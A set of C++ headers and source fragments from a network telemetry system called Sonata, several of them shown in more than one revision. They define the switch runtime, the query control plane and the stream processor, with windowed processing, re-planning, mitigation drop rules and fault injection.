              w.phases.poll_millis(), w.phases.close_millis(), w.phases.total_millis(),
              w.control_update_millis);
  return w;
}

std::vector<WindowStats> TelemetryEngine::run_trace(std::span<const net::Packet> trace) {
  std::vector<WindowStats> out;
  const util::Nanos w = plan().window;
  std::size_t begin = 0;
  while (begin < trace.size()) {
    const std::uint64_t idx = util::window_index(trace[begin].ts, w);
    std::size_t end = begin;
    while (end < trace.size() && util::window_index(trace[end].ts, w) == idx) ++end;
    out.push_back(process_window(trace.subspan(begin, end - begin)));
    begin = end;
  }
  return out;
}

std::unique_ptr<TelemetryEngine> make_engine(planner::Plan plan, const EngineOptions& opts) {
  const std::size_t batch = std::max<std::size_t>(opts.batch_size, 1);
  if (opts.switches <= 1 && opts.worker_threads == 0) {
    return std::make_unique<Runtime>(std::move(plan), batch, opts.faults);
  }
  return std::make_unique<Fleet>(std::move(plan), std::max<std::size_t>(opts.switches, 1),
                                 opts.worker_threads, batch, opts.faults);
}

}  // namespace sonata::runtime
