// The engine's dynamic query control plane.
//
// A ControlPlane owns the admitted queries (stable storage — submitting a
// query transfers ownership, so nothing outside the engine has to keep the
// "base queries" alive anymore) and an IncrementalPlanner that places and
// reclaims them without re-solving the untouched set. Drivers never see
// it mid-window: TelemetryEngine::close_window() asks for a fresh plan
// snapshot at the window barrier when submissions or withdrawals are
// pending, so a swap is always bit-exact at a window boundary.
//
// Withdrawn queries are kept on a retired list until the engine has
// actually swapped the old plan out (the outgoing plan's pipelines still
// reference their stream nodes), then freed.
#pragma once

#include <cstdint>
#include <list>
#include <map>
#include <optional>
#include <string_view>

#include "obs/metrics.h"
#include "planner/incremental.h"
#include "query/query.h"
#include "util/expected.h"

namespace sonata::runtime {

class ControlPlane {
 public:
  // `training` windows feed the planner's cost estimators (the same data a
  // static Planner::plan_windows call would use).
  ControlPlane(planner::PlannerConfig cfg, std::vector<planner::TupleWindow> training);

  // Tenants must be defined before they submit; redefining replaces the
  // budget without disturbing existing placements.
  void define_tenant(std::string_view name, planner::TenantBudget budget);

  // Admit `q` for `tenant` ("" = the unlimited default tenant). Takes
  // ownership; the query is validated here if it was not already. On
  // rejection nothing is retained and the diagnostic names the binding
  // constraint.
  [[nodiscard]] util::Expected<planner::AdmitId, planner::AdmissionDiagnostic> submit(
      query::Query q, std::string_view tenant = {});
  [[nodiscard]] util::Expected<util::Ok, planner::AdmissionDiagnostic> withdraw(
      planner::AdmitId id);

  // Pending submissions/withdrawals since the last snapshot?
  [[nodiscard]] bool dirty() const noexcept { return dirty_; }
  // Assemble the current active set into a versioned plan and clear the
  // dirty flag. Call free_retired() once the previously installed plan has
  // been replaced.
  [[nodiscard]] planner::Plan take_snapshot();
  void free_retired() { retired_.clear(); }

  // Handle of the active (not withdrawn) query named `name`; nullopt when
  // none is. Names are the operator-facing key (tools/admit scripts).
  [[nodiscard]] std::optional<planner::AdmitId> find(std::string_view name) const;

  [[nodiscard]] const planner::IncrementalPlanner& planner() const noexcept { return planner_; }

 private:
  void publish_tenant_gauges(std::string_view tenant);

  planner::IncrementalPlanner planner_;
  std::list<query::Query> storage_;  // stable addresses for admitted queries
  std::map<planner::AdmitId, std::list<query::Query>::iterator> owned_;
  std::list<query::Query> retired_;  // withdrawn, still referenced by the old plan
  bool dirty_ = false;

  obs::Counter* accepted_ctr_ = nullptr;
  obs::Counter* rejected_ctr_ = nullptr;
  obs::Counter* withdrawn_ctr_ = nullptr;
};

}  // namespace sonata::runtime
