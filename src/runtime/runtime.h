// Sonata's single-switch runtime (paper Figure 6): drives one PISA switch
// and the shared stream processor through the window loop, and performs
// dynamic refinement between windows.
//
// Per window:
//   1. every packet runs through the installed switch pipelines; mirrored
//      records go through the emitter to the per-(query, level) stream
//      executors (plus a shared raw mirror for pipelines kept entirely at
//      the stream processor);
//   2. at window end the runtime polls the switch registers (control
//      channel), closes each level's stream executor coarse-to-fine, and
//      installs each level's winner keys into the next level's dynamic
//      filter tables — on the switch and on the stream processor side;
//   3. registers are reset; the finest level's outputs are the window's
//      detections.
//
// The control-plane state (executors, source remapping, winner
// installation) lives in the shared runtime::StreamProcessor; the Runtime
// only owns the switch, the window loop, and the single-switch policies
// (closed-loop mitigation, re-planning trigger).
//
// Tuple accounting matches the paper's evaluation: N counts packets the
// switch sends toward the stream processor (streamed tuples, per-key
// reports, collision overflows, and the shared raw mirror), not the
// register polls on the control channel.
#pragma once

#include <cstddef>
#include <cstdint>
#include <deque>
#include <memory>
#include <string>
#include <vector>

#include "fault/fault.h"
#include "pisa/switch.h"
#include "planner/planner.h"
#include "query/tuple.h"
#include "runtime/engine.h"
#include "runtime/stream_processor.h"
#include "runtime/wire_channel.h"

namespace sonata::runtime {

class Runtime final : public TelemetryEngine {
 public:
  // Takes ownership of a copy of the plan; the *base queries* the plan
  // references must outlive the Runtime. `batch_size` is the data-path
  // handoff granularity (DESIGN.md "Data-path memory model"): ingested
  // packets are parsed immediately but run through the switch pipelines
  // `batch_size` at a time into a reusable emit arena. 1 is the legacy
  // per-packet path; any value produces bit-identical windows.
  //
  // `faults` configures deterministic fault injection (DESIGN.md "Fault
  // model & degradation"): wire faults round-trip every mirrored record
  // through the report codec, register pressure shrinks/reseeds the
  // installed chains. Worker stalls and the watchdog are fleet-only and
  // inert here (the single-switch runtime has no worker to stall).
  explicit Runtime(planner::Plan plan, std::size_t batch_size = 1,
                   fault::FaultSpec faults = {});

  // Streaming interface (TelemetryEngine).
  void ingest(const net::Packet& packet) override;

  [[nodiscard]] const planner::Plan& plan() const noexcept override { return plan_; }
  [[nodiscard]] std::size_t data_plane_count() const noexcept override { return 1; }
  [[nodiscard]] const pisa::Switch& data_plane(std::size_t) const override { return *switch_; }
  [[nodiscard]] const pisa::Switch& data_plane() const noexcept { return *switch_; }
  [[nodiscard]] const Emitter& emitter() const noexcept override { return sp_->emitter(); }

  // Fraction of mirrored records caused by register-chain overflow since
  // start; the paper's runtime triggers re-planning when this spikes.
  [[nodiscard]] double overflow_fraction() const noexcept;

  // -- closed-loop mitigation (paper Section 8's long-term goal) -------
  // When enabled, every finest-level detection of `qid` installs a drop
  // rule on the switch: packets whose `packet_field` equals the detection's
  // `output_column` value are dropped from the next window on.
  struct MitigationPolicy {
    query::QueryId qid = 0;
    std::string output_column;       // detection column carrying the key
    std::string packet_field;        // packet field to block on (e.g. "dIP")
    std::size_t max_entries = 1024;  // guard-table budget
  };
  void enable_mitigation(MitigationPolicy policy);

  // -- re-planning trigger (paper §5) ----------------------------------
  // "When it detects too many hash collisions, the runtime triggers the
  // query planner to re-run the ILP with the new data." The runtime tracks
  // the per-window collision-overflow fraction; when it exceeds
  // `overflow_threshold` for `consecutive_windows` windows, the traffic has
  // drifted past the training data's key-count estimates and the caller
  // should re-plan on recent windows (see RuntimeReplan tests).
  struct ReplanPolicy {
    double overflow_threshold = 0.01;  // overflow records per packet seen
    int consecutive_windows = 2;
  };
  void set_replan_policy(ReplanPolicy policy) noexcept { replan_policy_ = policy; }
  [[nodiscard]] bool replan_recommended() const noexcept { return replan_recommended_; }

  // -- acted-on re-planning (paper §5, closing the loop) ---------------
  // When enabled, a fired replan recommendation is consumed automatically:
  // the planner re-runs against the last `history_windows` windows of live
  // traffic (so its key-count estimates reflect the drifted traffic, not
  // the stale training trace) and the new plan is hot-swapped between
  // windows. The swap rebuilds the switch program and the stream-processor
  // executors; installed mitigation guard entries are rebuilt from the next
  // window's detections (the drop rules themselves do not survive the
  // reinstall — a documented cost of the swap). Register-pressure faults
  // (shrink/hash_seed) are deliberately NOT re-applied to the new plan:
  // re-planning is the recovery from them.
  struct AutoReplanConfig {
    const std::vector<query::Query>* queries = nullptr;  // must outlive the Runtime
    planner::PlannerConfig planner;
    std::size_t history_windows = 2;  // ingest history kept for re-training
  };
  void enable_auto_replan(AutoReplanConfig cfg);
  [[nodiscard]] std::uint64_t replans_performed() const noexcept { return replans_; }

 protected:
  WindowStats do_close_window() override;
  // Control-plane swap at the window barrier: reinstall the switch program
  // (unchanged compiled pipelines are reused) and rebuild the stream
  // executors. Register-pressure faults are not re-applied — a swap
  // installs clean, like an auto-replan.
  void apply_plan(planner::Plan plan) override;

 private:
  // Compute granularity inside a buffered flush (same locality knob as
  // Fleet::kProcessChunk): the pipelines consume the batch in runs small
  // enough to stay cache-resident. The flush itself triggers at
  // batch_size_ so the per-flush phase-timer clock reads amortize over the
  // whole batch. Output order is unchanged for any value.
  static constexpr std::size_t kProcessChunk = 16;

  // Run the buffered tuples through the switch pipelines and route the
  // resulting records (and the raw mirror) into the stream processor.
  void flush_pending();
  // Route one emitted record toward the stream processor, through the
  // faulty wire when one is configured.
  void deliver_record(pisa::EmitRecord&& rec);
  // (Re)build the switch program and stream processor for `plan`.
  // `register_pressure` applies the fault spec's shrink/hash_seed (true for
  // the initial install, false for auto-replan swaps — re-planning is the
  // recovery from register pressure).
  void install_plan(planner::Plan plan, bool register_pressure);

  planner::Plan plan_;
  // unique_ptrs (not values) so an auto-replan swap can rebuild both; sp_
  // holds pointers into plan_, so destruction order is switch_/sp_ first.
  std::unique_ptr<pisa::Switch> switch_;
  std::unique_ptr<StreamProcessor> sp_;
  std::size_t batch_size_ = 1;
  fault::FaultSpec faults_;

  // Fault injection (null when no spec is configured).
  std::unique_ptr<fault::Injector> injector_;
  std::unique_ptr<WireChannel> wire_;
  fault::FaultAccount last_account_;

  std::vector<MitigationPolicy> mitigations_;
  ReplanPolicy replan_policy_;
  int overflow_streak_ = 0;
  bool replan_recommended_ = false;

  // Auto-replan state: per-window ingest history (newest last), kept only
  // while enabled.
  bool auto_replan_ = false;
  AutoReplanConfig auto_replan_cfg_;
  std::deque<std::vector<net::Packet>> history_;
  std::uint64_t replans_ = 0;
  obs::Counter* replans_ctr_ = nullptr;

  WindowStats current_;
  obs::PhaseAccum phase_accum_;  // this window's phase clock (driver thread)
  std::uint64_t window_counter_ = 0;
  std::uint64_t total_records_ = 0;
  std::uint64_t total_overflows_ = 0;
  std::uint64_t dropped_before_window_ = 0;
  // Parsed-but-unprocessed tuple slots: the first `pending_used_` entries
  // are live; warm slots keep their value storage across batches.
  std::vector<query::Tuple> pending_tuples_;
  std::size_t pending_used_ = 0;
  // Ingest timestamp of the current buffered batch's first packet (0 when
  // metrics are off): one clock read per batch stamps every record the
  // batch emits for the end-to-end latency histograms.
  std::uint64_t pending_first_ns_ = 0;
  pisa::EmitSink sink_;  // reusable emit arena
};

}  // namespace sonata::runtime
