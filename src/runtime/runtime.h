// Sonata's runtime (paper Figure 6): drives the PISA switch, the emitter
// and the stream processor through the window loop, and performs dynamic
// refinement between windows.
//
// Per window:
//   1. every packet runs through the installed switch pipelines; mirrored
//      records go through the emitter to the per-(query, level) stream
//      executors (plus a shared raw mirror for pipelines kept entirely at
//      the stream processor);
//   2. at window end the runtime polls the switch registers (control
//      channel), closes each level's stream executor coarse-to-fine, and
//      installs each level's winner keys into the next level's dynamic
//      filter tables — on the switch and on the stream processor side;
//   3. registers are reset; the finest level's outputs are the window's
//      detections.
//
// Tuple accounting matches the paper's evaluation: N counts packets the
// switch sends toward the stream processor (streamed tuples, per-key
// reports, collision overflows, and the shared raw mirror), not the
// register polls on the control channel.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <span>
#include <vector>

#include "pisa/switch.h"
#include "planner/planner.h"
#include "stream/executor.h"

namespace sonata::runtime {

// The emitter (paper §5): parses mirrored packets by qid and forwards
// tuples to the stream processor. In-process it is the routing + accounting
// boundary between data plane and stream processor.
class Emitter {
 public:
  struct PerQuery {
    std::uint64_t tuples = 0;
    std::uint64_t overflows = 0;
  };

  void deliver(const pisa::EmitRecord& rec, stream::QueryExecutor& exec,
               int exec_source_index);

  [[nodiscard]] const std::map<query::QueryId, PerQuery>& per_query() const noexcept {
    return stats_;
  }
  [[nodiscard]] std::uint64_t total_tuples() const noexcept { return total_; }

 private:
  std::map<query::QueryId, PerQuery> stats_;
  std::uint64_t total_ = 0;
};

struct QueryResult {
  query::QueryId qid = 0;
  std::string name;
  std::vector<query::Tuple> outputs;  // finest-level results this window
};

struct WindowStats {
  std::uint64_t window_index = 0;
  std::uint64_t packets = 0;
  std::uint64_t tuples_to_sp = 0;       // mirrored tuples + raw mirror
  std::uint64_t raw_mirror_packets = 0; // subset of the above
  std::uint64_t overflow_records = 0;
  double control_update_millis = 0.0;   // driver latency at window end
  std::uint64_t dropped_packets = 0;     // closed-loop mitigation drops
  std::vector<QueryResult> results;
  // Winner keys installed into next-level dynamic filters at the end of
  // this window, per query (all coarse levels merged).
  std::map<query::QueryId, std::vector<query::Tuple>> winners;
};

class Runtime {
 public:
  // Takes ownership of a copy of the plan; the *base queries* the plan
  // references must outlive the Runtime.
  explicit Runtime(planner::Plan plan);

  // Batch interface: process one window's packets and close the window.
  WindowStats process_window(std::span<const net::Packet> packets);

  // Streaming interface (used by the case-study benchmark).
  void ingest(const net::Packet& packet);
  WindowStats close_window();

  // Convenience: run a whole trace, splitting it into windows by the plan's
  // window size. Returns per-window stats.
  std::vector<WindowStats> run_trace(std::span<const net::Packet> trace);

  [[nodiscard]] const pisa::Switch& data_plane() const noexcept { return switch_; }
  [[nodiscard]] const Emitter& emitter() const noexcept { return emitter_; }
  [[nodiscard]] const planner::Plan& plan() const noexcept { return plan_; }

  // Fraction of mirrored records caused by register-chain overflow since
  // start; the paper's runtime triggers re-planning when this spikes.
  [[nodiscard]] double overflow_fraction() const noexcept;

  // -- closed-loop mitigation (paper Section 8's long-term goal) -------
  // When enabled, every finest-level detection of `qid` installs a drop
  // rule on the switch: packets whose `packet_field` equals the detection's
  // `output_column` value are dropped from the next window on.
  struct MitigationPolicy {
    query::QueryId qid = 0;
    std::string output_column;       // detection column carrying the key
    std::string packet_field;        // packet field to block on (e.g. "dIP")
    std::size_t max_entries = 1024;  // guard-table budget
  };
  void enable_mitigation(MitigationPolicy policy);

  // -- re-planning trigger (paper §5) ----------------------------------
  // "When it detects too many hash collisions, the runtime triggers the
  // query planner to re-run the ILP with the new data." The runtime tracks
  // the per-window collision-overflow fraction; when it exceeds
  // `overflow_threshold` for `consecutive_windows` windows, the traffic has
  // drifted past the training data's key-count estimates and the caller
  // should re-plan on recent windows (see RuntimeReplan tests).
  struct ReplanPolicy {
    double overflow_threshold = 0.01;  // overflow records per packet seen
    int consecutive_windows = 2;
  };
  void set_replan_policy(ReplanPolicy policy) noexcept { replan_policy_ = policy; }
  [[nodiscard]] bool replan_recommended() const noexcept { return replan_recommended_; }

 private:
  struct LevelExec {
    int level = planner::kFinestIpLevel;
    std::unique_ptr<stream::QueryExecutor> exec;
  };
  struct QueryState {
    const planner::PlannedQuery* pq = nullptr;
    std::vector<LevelExec> levels;  // chain order (coarse -> fine)
  };

  stream::QueryExecutor& executor(query::QueryId qid, int level);
  // Executor-side source index for an original source at a level (-1 when
  // that source does not execute at the level — raw sources at coarse
  // levels; see PlannedQuery::source_remap).
  [[nodiscard]] int remap_source(query::QueryId qid, int level, int source_index) const;

  planner::Plan plan_;
  pisa::Switch switch_;
  Emitter emitter_;
  std::vector<QueryState> queries_;
  // Pipelines kept at the stream processor (partition == 0), needing the
  // raw mirror: (qid, level, source).
  struct RawFeed {
    query::QueryId qid;
    int level;
    int source_index;
  };
  std::vector<RawFeed> raw_feeds_;

  std::vector<MitigationPolicy> mitigations_;
  ReplanPolicy replan_policy_;
  int overflow_streak_ = 0;
  bool replan_recommended_ = false;

  WindowStats current_;
  std::uint64_t window_counter_ = 0;
  std::uint64_t total_records_ = 0;
  std::uint64_t total_overflows_ = 0;
  std::uint64_t dropped_before_window_ = 0;
  std::vector<pisa::EmitRecord> scratch_;
};

}  // namespace sonata::runtime
