// The stream-processor side of the runtime, shared by every driver.
//
// Sonata's control plane is the same whether one switch or a fleet feeds
// it: per-(query, level) stream executors, the per-level source remapping,
// mirrored-record routing + accounting (the emitter), end-of-window
// register polls, and the coarse-to-fine close that installs each level's
// winner keys into the next level's dynamic filter tables. `Runtime` (one
// switch) and `Fleet` (many switches) used to duplicate all of it; the
// StreamProcessor is now the single source of truth, and the drivers only
// own their data planes and the window loop.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <span>
#include <string>
#include <vector>

#include "pisa/switch.h"
#include "planner/planner.h"
#include "stream/executor.h"

namespace sonata::runtime {

// The emitter (paper §5): the accounting boundary between data plane and
// stream processor. Counts every mirrored record per query.
class Emitter {
 public:
  struct PerQuery {
    std::uint64_t tuples = 0;
    std::uint64_t overflows = 0;
  };

  void record(const pisa::EmitRecord& rec);

  [[nodiscard]] const std::map<query::QueryId, PerQuery>& per_query() const noexcept {
    return stats_;
  }
  [[nodiscard]] std::uint64_t total_tuples() const noexcept { return total_; }

 private:
  std::map<query::QueryId, PerQuery> stats_;
  std::uint64_t total_ = 0;
};

struct QueryResult {
  query::QueryId qid = 0;
  std::string name;
  std::vector<query::Tuple> outputs;  // finest-level results this window
};

struct WindowStats {
  std::uint64_t window_index = 0;
  std::uint64_t packets = 0;
  std::uint64_t tuples_to_sp = 0;       // mirrored tuples + raw mirror
  std::uint64_t raw_mirror_packets = 0; // subset of the above
  std::uint64_t overflow_records = 0;
  double control_update_millis = 0.0;   // driver latency at window end
  std::uint64_t dropped_packets = 0;     // closed-loop mitigation drops
  std::vector<QueryResult> results;
  // Winner keys installed into next-level dynamic filters at the end of
  // this window, per query (all coarse levels merged).
  std::map<query::QueryId, std::vector<query::Tuple>> winners;
};

class StreamProcessor {
 public:
  // `plan` must outlive the StreamProcessor (drivers own the plan copy).
  explicit StreamProcessor(const planner::Plan& plan);

  StreamProcessor(const StreamProcessor&) = delete;
  StreamProcessor& operator=(const StreamProcessor&) = delete;

  // Route one mirrored record into the right executor (key reports only
  // notify the SP which registers to poll; they count but do not ingest).
  void deliver(const pisa::EmitRecord& rec);

  // Move-in variant: the record's tuple is moved into the executor. This
  // is what the batched merge path uses — shard emit arenas hand their
  // tuples over without a copy.
  void deliver(pisa::EmitRecord&& rec);

  // Batched delivery in record order; every record's tuple is moved.
  // Callers must treat `recs` as consumed.
  void deliver_batch(std::span<pisa::EmitRecord> recs);

  // Feed the shared raw mirror: `source` enters every SP-kept pipeline
  // (partition == 0) whose source executes at its level.
  void deliver_raw(const query::Tuple& source);

  // Batched raw mirror: tuples are copied to every active feed except the
  // last, which takes them by move. Callers must treat `sources` as
  // consumed.
  void deliver_raw_batch(std::span<query::Tuple> sources);

  // True when the plan mirrors raw packets and some pipeline consumes them.
  [[nodiscard]] bool wants_raw_mirror() const noexcept {
    return plan_->raw_mirror && !raw_feeds_.empty();
  }

  // End-of-window register poll for one switch's stateful tails (control
  // channel); polled aggregates merge at the shared reduce.
  void poll_switch(const pisa::Switch& sw);

  // Close every level coarse-to-fine: finest outputs land in
  // `window.results`; coarse winners install into the next level's dynamic
  // filter tables on the SP side and on every switch in `switches` (they
  // take effect for the next window).
  void close_levels(WindowStats& window, std::span<pisa::Switch* const> switches);

  [[nodiscard]] stream::QueryExecutor& executor(query::QueryId qid, int level);
  // Executor-side source index for an original source at a level (-1 when
  // that source does not execute at the level — raw sources at coarse
  // levels; see PlannedQuery::source_remap).
  [[nodiscard]] int remap_source(query::QueryId qid, int level, int source_index) const;

  // The planned query behind `qid` (nullptr when unknown).
  [[nodiscard]] const planner::PlannedQuery* planned(query::QueryId qid) const noexcept;

  [[nodiscard]] const Emitter& emitter() const noexcept { return emitter_; }

 private:
  struct LevelExec {
    int level = planner::kFinestIpLevel;
    std::unique_ptr<stream::QueryExecutor> exec;
  };
  struct QueryState {
    const planner::PlannedQuery* pq = nullptr;
    std::vector<LevelExec> levels;  // chain order (coarse -> fine)
  };
  // Pipelines kept at the stream processor (partition == 0), needing the
  // raw mirror: (qid, level, source).
  struct RawFeed {
    query::QueryId qid;
    int level;
    int source_index;
  };

  const planner::Plan* plan_;
  std::vector<QueryState> queries_;
  std::vector<RawFeed> raw_feeds_;
  Emitter emitter_;
};

}  // namespace sonata::runtime
