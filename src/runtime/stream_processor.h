// The stream-processor side of the runtime, shared by every driver.
//
// Sonata's control plane is the same whether one switch or a fleet feeds
// it: per-(query, level) stream executors, the per-level source remapping,
// mirrored-record routing + accounting (the emitter), end-of-window
// register polls, and the coarse-to-fine close that installs each level's
// winner keys into the next level's dynamic filter tables. `Runtime` (one
// switch) and `Fleet` (many switches) used to duplicate all of it; the
// StreamProcessor is now the single source of truth, and the drivers only
// own their data planes and the window loop.
#pragma once

#include <cstdint>
#include <functional>
#include <iterator>
#include <memory>
#include <span>
#include <string>
#include <vector>

#include "fault/fault.h"
#include "obs/tracing.h"
#include "pisa/switch.h"
#include "planner/planner.h"
#include "stream/executor.h"

namespace sonata::runtime {

// The emitter (paper §5): the accounting boundary between data plane and
// stream processor. Counts every mirrored record per query. Stats live in
// a dense vector in plan order — record() runs once per mirrored record,
// so the per-record cost is one table-free index lookup, not a tree walk.
class Emitter {
 public:
  struct PerQuery {
    std::uint64_t tuples = 0;
    std::uint64_t overflows = 0;
  };

  // Dense registration in plan order; must precede record() for the qid.
  void register_query(query::QueryId qid);

  void record(const pisa::EmitRecord& rec);

  // (qid, stats) pairs in plan order.
  [[nodiscard]] const std::vector<std::pair<query::QueryId, PerQuery>>& per_query()
      const noexcept {
    return stats_;
  }
  [[nodiscard]] std::uint64_t total_tuples() const noexcept { return total_; }

 private:
  static constexpr std::uint32_t kUnregistered = static_cast<std::uint32_t>(-1);

  std::vector<std::pair<query::QueryId, PerQuery>> stats_;  // dense, plan order
  std::vector<std::uint32_t> qid_to_index_;                 // qid -> dense index
  std::uint64_t total_ = 0;
};

struct QueryResult {
  query::QueryId qid = 0;
  std::string name;
  std::vector<query::Tuple> outputs;  // finest-level results this window
};

// Winner keys installed into next-level dynamic filters at a window close,
// held densely in plan order (one slot per planned query; queries without
// a refinement chain keep an empty key list). Replaces the former
// std::map<QueryId, vector<Tuple>>: per-window control paths index by
// dense query id instead of walking a node-based tree.
struct QueryWinners {
  query::QueryId qid = 0;
  std::vector<query::Tuple> keys;

  friend bool operator==(const QueryWinners&, const QueryWinners&) = default;
};

struct WinnerTable {
  std::vector<QueryWinners> per_query;  // dense, plan order

  // Keys installed for `qid` this window; nullptr when none were.
  [[nodiscard]] const std::vector<query::Tuple>* find(query::QueryId qid) const noexcept {
    for (const auto& w : per_query) {
      if (w.qid == qid && !w.keys.empty()) return &w.keys;
    }
    return nullptr;
  }

  friend bool operator==(const WinnerTable&, const WinnerTable&) = default;
};

// Per-window phase-time breakdown, fed by the drivers' obs::PhaseAccum.
// Kept in integer nanoseconds so the five components sum to total_nanos
// EXACTLY (the accumulator adds both together); the millis accessors are
// for display. In a threaded fleet the phases are busy time summed across
// workers and driver, so total_nanos can exceed the window's wall time.
struct PhaseBreakdown {
  std::uint64_t ingest_nanos = 0;   // packet parse / tuple materialize
  std::uint64_t compute_nanos = 0;  // switch pipeline processing
  std::uint64_t merge_nanos = 0;    // barrier drain + record merge into SP
  std::uint64_t poll_nanos = 0;     // end-of-window register polls
  std::uint64_t close_nanos = 0;    // close_levels + refinement install + resets
  std::uint64_t total_nanos = 0;    // exact sum of the five components

  [[nodiscard]] double ingest_millis() const noexcept { return static_cast<double>(ingest_nanos) / 1e6; }
  [[nodiscard]] double compute_millis() const noexcept { return static_cast<double>(compute_nanos) / 1e6; }
  [[nodiscard]] double merge_millis() const noexcept { return static_cast<double>(merge_nanos) / 1e6; }
  [[nodiscard]] double poll_millis() const noexcept { return static_cast<double>(poll_nanos) / 1e6; }
  [[nodiscard]] double close_millis() const noexcept { return static_cast<double>(close_nanos) / 1e6; }
  [[nodiscard]] double total_millis() const noexcept { return static_cast<double>(total_nanos) / 1e6; }
};

// Snapshot a driver's per-window phase accumulator into a breakdown.
[[nodiscard]] PhaseBreakdown to_breakdown(const obs::PhaseAccum& accum) noexcept;

struct WindowStats {
  std::uint64_t window_index = 0;
  std::uint64_t packets = 0;
  std::uint64_t tuples_to_sp = 0;       // mirrored tuples + raw mirror
  std::uint64_t raw_mirror_packets = 0; // subset of the above
  std::uint64_t overflow_records = 0;
  double control_update_millis = 0.0;   // driver latency at window end
  std::uint64_t dropped_packets = 0;     // closed-loop mitigation drops
  PhaseBreakdown phases;                 // zeroed unless obs/tracing enabled
  std::vector<QueryResult> results;
  // Winner keys installed into next-level dynamic filters at the end of
  // this window, per query (all coarse levels merged), dense in plan order.
  WinnerTable winners;

  // -- graceful degradation (DESIGN.md "Fault model & degradation") -----
  // Bit i is set when switch i's full contribution made this window's
  // merge (meaningful for the first 64 switches; every fleet here is far
  // smaller). A healthy window has every bit set and partial == false; a
  // window that lost a quarantined shard reports partial == true, the
  // missing switch's bit cleared, and its packets in late_packets.
  std::uint64_t contribution_mask = 0;
  bool partial = false;
  std::uint64_t late_packets = 0;  // routed to a quarantined shard, lost from merge
  std::uint64_t shed_packets = 0;  // dropped at ingest under sustained backpressure
  bool plan_swapped = false;       // a new plan was installed after this window
                                   // (auto-replan or control-plane swap)
  std::uint64_t plan_version = 0;  // control-plane version of the plan that
                                   // processed this window (0 = static plan)
  fault::FaultAccount faults;      // faults injected during this window (all zero
                                   // when no injector is configured)
};

class StreamProcessor {
 public:
  // `plan` must outlive the StreamProcessor (drivers own the plan copy).
  explicit StreamProcessor(const planner::Plan& plan);

  StreamProcessor(const StreamProcessor&) = delete;
  StreamProcessor& operator=(const StreamProcessor&) = delete;

  // Route one mirrored record into the right executor (key reports only
  // notify the SP which registers to poll; they count but do not ingest).
  // Returns false — and ingests nothing — when the record does not route:
  // unknown (qid, level) or out-of-range source index. Plan-driven callers
  // always route; the faulty wire (runtime::WireChannel) can hand the SP a
  // corrupted-but-decodable header, and this boundary check is what keeps
  // that from indexing into another query's executors.
  bool deliver(const pisa::EmitRecord& rec);

  // Move-in variant: the record's tuple is moved into the executor. This
  // is what the batched merge path uses — shard emit arenas hand their
  // tuples over without a copy.
  bool deliver(pisa::EmitRecord&& rec);

  // Batched delivery in record order; every record's tuple is moved.
  // Callers must treat `recs` as consumed.
  void deliver_batch(std::span<pisa::EmitRecord> recs);

  // Feed the shared raw mirror: `source` enters every SP-kept pipeline
  // (partition == 0) whose source executes at its level.
  void deliver_raw(const query::Tuple& source);

  // Batched raw mirror: tuples are copied to every active feed except the
  // last, which takes them by move. Callers must treat `sources` as
  // consumed.
  void deliver_raw_batch(std::span<query::Tuple> sources);

  // True when the plan mirrors raw packets and some pipeline consumes them.
  [[nodiscard]] bool wants_raw_mirror() const noexcept {
    return plan_->raw_mirror && !raw_feeds_.empty();
  }

  // Static form of wants_raw_mirror() for processes that deploy the data
  // plane without building a StreamProcessor (the switch-node role of the
  // distributed deployment must mirror raw tuples iff the collector's SP
  // will consume them).
  [[nodiscard]] static bool plan_wants_raw_mirror(const planner::Plan& plan) noexcept;

  // Observe every dynamic-filter install close_levels performs: one call
  // per (filter table, winner set) in install order, including empty
  // winner sets (which clear the table). The distributed collector
  // forwards these to the switch-node processes, which replay them on
  // their local switches before the next window — the same installs
  // `switches` receives in-process.
  using WinnerSink =
      std::function<void(const std::string& table, std::span<const query::Tuple> keys)>;
  void set_winner_sink(WinnerSink sink) { winner_sink_ = std::move(sink); }

  // End-of-window register poll for one switch's stateful tails (control
  // channel); polled aggregates merge at the shared reduce.
  void poll_switch(const pisa::Switch& sw);

  // Ingest already-polled (and possibly pre-merged) aggregates for one
  // pipeline — the parallel window close's replacement for poll_switch.
  // `logical_tuples` is the pre-merge aggregate count (what poll_switch
  // would have fed tuples_in across all shards), so per-window SP metrics
  // are identical whether the close ran serial or parallel.
  void ingest_polled(query::QueryId qid, int level, int source_index,
                     std::size_t entry_op, std::uint64_t logical_tuples,
                     std::span<query::Tuple> aggregates);

  // Close every level coarse-to-fine: finest outputs land in
  // `window.results`; coarse winners install into the next level's dynamic
  // filter tables on the SP side and on every switch in `switches` (they
  // take effect for the next window).
  void close_levels(WindowStats& window, std::span<pisa::Switch* const> switches);

  [[nodiscard]] stream::QueryExecutor& executor(query::QueryId qid, int level);
  // Executor-side source index for an original source at a level (-1 when
  // that source does not execute at the level — raw sources at coarse
  // levels; see PlannedQuery::source_remap).
  [[nodiscard]] int remap_source(query::QueryId qid, int level, int source_index) const;

  // The planned query behind `qid` (nullptr when unknown).
  [[nodiscard]] const planner::PlannedQuery* planned(query::QueryId qid) const noexcept;

  [[nodiscard]] const Emitter& emitter() const noexcept { return emitter_; }

  // Set the delivery timestamp for the merge pass that follows: deliver()
  // notes (now - rec.ingest_ns) for every stamped record into the owning
  // level's latency tally. Drivers call this once per merge/flush, so the
  // per-record cost is two plain adds — no clock read, no registry access.
  // Pass 0 to disable (default).
  void begin_delivery(std::uint64_t now_ns) noexcept { delivery_now_ = now_ns; }

 private:
  // Per-(query, level) single-writer end-to-end latency tally, published to
  // a registry histogram once per window at close_levels. Bucket bounds are
  // shared with the registry histogram: 1us..1s decades.
  struct LatencyTally {
    static constexpr std::uint64_t kBounds[] = {1'000,      10'000,      100'000,    1'000'000,
                                                10'000'000, 100'000'000, 1'000'000'000};
    static constexpr std::size_t kBuckets = std::size(kBounds) + 1;
    std::uint64_t counts[kBuckets] = {};
    std::uint64_t sum = 0;
    std::uint64_t n = 0;

    void note(std::uint64_t latency_ns) noexcept {
      std::size_t b = 0;
      while (b < std::size(kBounds) && latency_ns > kBounds[b]) ++b;
      ++counts[b];
      sum += latency_ns;
      ++n;
    }
    void reset() noexcept {
      for (std::uint64_t& c : counts) c = 0;
      sum = 0;
      n = 0;
    }
  };
  struct LevelExec {
    int level = planner::kFinestIpLevel;
    std::unique_ptr<stream::QueryExecutor> exec;
    // Single-writer per-window tally (the SP is driven by one thread);
    // published to the registry at close_levels.
    std::uint64_t tuples_in = 0;
    obs::Counter* in_counter = nullptr;
    obs::Counter* out_counter = nullptr;
